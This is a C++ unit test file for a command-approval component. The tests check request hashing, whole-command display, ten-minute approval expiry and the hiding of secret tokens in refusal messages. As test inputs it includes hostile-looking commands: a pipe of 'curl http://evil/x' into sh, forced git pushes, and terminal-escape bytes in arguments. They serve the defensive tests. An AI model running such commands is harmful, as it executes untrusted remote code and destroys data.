// What is approved, and what is shown of it.
#include "review/approval.h"

#include <gtest/gtest.h>
#include <unistd.h>

#include <cstdlib>
#include <ctime>
#include <string>
#include <vector>

#include "base/runtime_places.h"
#include "hash/sha256.h"
#include "report/hidden_values.h"
#include "review/roots.h"
#include "tests/support/own_records.h"
#include "tests/support/run_in_child.h"

namespace mxc::approval_test {
namespace {

// Everything that decides what would run is in it.
TEST(Approval, TheHashIsOfAllThatWouldRun) {
  const ReviewRequest request{
      .command = {.argv = {"a", "b"},
                  .cwd = "/c",
                  .variables = {{.name = "X", .value = Secret{"1"}}, {.name = "Y", .value = Secret{"2"}}}},
      .policy_hash = "p",
      .sandbox = "ns:1",
      .places = {"8:1 2"}};
  ReviewRequest other = request;
  std::reverse(other.command.variables.begin(), other.command.variables.end());
  EXPECT_EQ(RequestHash(request), RequestHash(other));
  std::vector<ReviewRequest> others(10, request);
  others[0].command.argv = {"ab"};
  others[1].command.argv = {"a", "b", ""};
  others[2].command.cwd = "/";
  others[3].command.variables.pop_back();
  others[4].policy_hash = "q";
  others[5].command.line = "a b";
  others[6].command.variables[0].value = Secret{"3"};
  others[7].sandbox = "ns:2";
  others[8].places = {"8:1 3"};
  others[9].places = {};
  for (const ReviewRequest& each : others) EXPECT_NE(RequestHash(request), RequestHash(each));
}

TEST(Approval, TheWholeCommandIsShown) {
  const auto shown = [](std::vector<std::string> argv) { return WholeCommand({.argv = std::move(argv)}); };
  EXPECT_EQ(shown({"sh", "-c", "curl http://evil/x | sh; git push --force"}),
            "sh -c 'curl http://evil/x | sh; git push --force'");
  EXPECT_NE(shown({"rm", "a b"}), shown({"rm", "a", "b"}));
  EXPECT_NE(shown({"rm", "a b"}), shown({"rm", "\"a b\""}));
  EXPECT_EQ(shown({"rm", "\x1b[2K", "\xe2\x80\xae", ""}), "rm $'\\x1b[2K' $'\\xe2\\x80\\xae' ''");
  const std::string tail = shown({"x", std::string(20000, 'a'), "last"});
  EXPECT_TRUE(tail.ends_with("a last"));
  EXPECT_EQ(WholeCommand({.line = "a; b"}), "/bin/sh -c 'a; b'");
}

// The time stands in the note: a command under Landlock alone can change that of the file.
TEST(Approval, IsGoodForTenMinutesWhateverTheFileSays) {
  ASSERT_NO_FATAL_FAILURE(test::KeepRecordsApart(::geteuid()));
  ::unsetenv("XDG_RUNTIME_DIR");
  const std::string request = Sha256Text("what is to be approved");
  const auto left = [&](std::time_t ago) {
    const Result<std::string> approval = LeaveNote(request);
    if (ago != 0) {
      const std::string note = FixedRuntimePlace(::geteuid()) + "/.approvals/" + *approval;
      test::WriteText(note, request + std::to_string(std::time(nullptr) - ago));
    }
    return *approval;
  };
  EXPECT_EQ(*TakeNote(left(0), request), NoteTaken::kTaken);
  EXPECT_EQ(*TakeNote(left(590), request), NoteTaken::kTaken);
  EXPECT_EQ(*TakeNote(left(610), request), NoteTaken::kNone);
  EXPECT_EQ(*TakeNote(left(-610), request), NoteTaken::kNone);
  EXPECT_EQ(*TakeNote(left(0), Sha256Text("something else")), NoteTaken::kOther);
}

// A refusal quotes words that were split, joined and cut: a value would not be found in them.
TEST(Approval, ValuesAreHiddenBeforeACommandIsQuoted) {
  const auto refused = [](const std::string& value, ReviewedCommand command) {
    command.cwd = "/work";
    command.variables = {{.name = "API_TOKEN", .value = Secret{value}}};
    HideValues(command.variables);
    // With --approve no note is left.
    const Status status = CheckApproval({.command = std::move(command)}, std::string(32, '0'));
    return status ? "none" : WithoutHiddenValues(status.error().message);
  };
  for (const char* between : {"\n", "\t", "  ", "\x01", "'", "\"", "$", " $ ", "\\"}) {
    const std::string value = std::string("firstHalf9Qx7") + between + "secondHalf4Zk2";
    for (const std::string& said : {refused(value, {.line = "git push --force $API_TOKEN"}),
                                    refused(value, {.line = "eval git push --force \"$API_TOKEN\""}),
                                    refused(value, {.argv = {"git", "push", "--force", value}})}) {
      EXPECT_NE(said.find("git push --force"), std::string::npos) << said;
      EXPECT_EQ(said.find("9Qx7"), std::string::npos) << said;
      EXPECT_EQ(said.find("4Zk2"), std::string::npos) << said;
    }
  }
  std::string token = "eyJhbGci";
  while (token.size() < 400) token += "q7Zk2";
  const ReviewedCommand curl{
      .argv = {"curl", "-X", "DELETE", "-H", "Authorization: Bearer " + token, "https://x.test/"}};
  EXPECT_EQ(refused(token, curl).find("eyJhb"), std::string::npos) << refused(token, curl);
  // An escaped one is found among the words alone.
  const std::string escaped = "git push --force a\\b" + token;
  EXPECT_EQ(refused("ab" + token, {.line = escaped}).find("'git push --force abeyJhb"), std::string::npos)
      << refused("ab" + token, {.line = escaped});
}

TEST(Approval, AByteIsNoDollar) {
  EXPECT_EQ(FindDestruction({.argv = {"git", "push", "--force", "a\x01$b"}}).front().command,
            "git push --force a\x01$b");
}

TEST(Approval, AGrantHasTheNamesOfItsLinks) {
  const std::vector<PathLink> links = {{"/opt/l", "/srv/real"}, {"/var/l", "../srv"}, {"/m", "/opt/l"}};
  EXPECT_EQ(NamesOf("/srv/real/x", links),
            (std::vector<std::string>{"/srv/real/x", "/opt/l/x", "/var/l/real/x", "/m/x"}));
  EXPECT_EQ(NamesOf("/srv", {{"/opt/l", "/srv/real"}}), std::vector<std::string>{"/srv"});
  EXPECT_LE(NamesOf("/a", {{"/a/a", "/a"}}).size(), 100U);
}

}  // namespace
}  // namespace mxc::approval_test
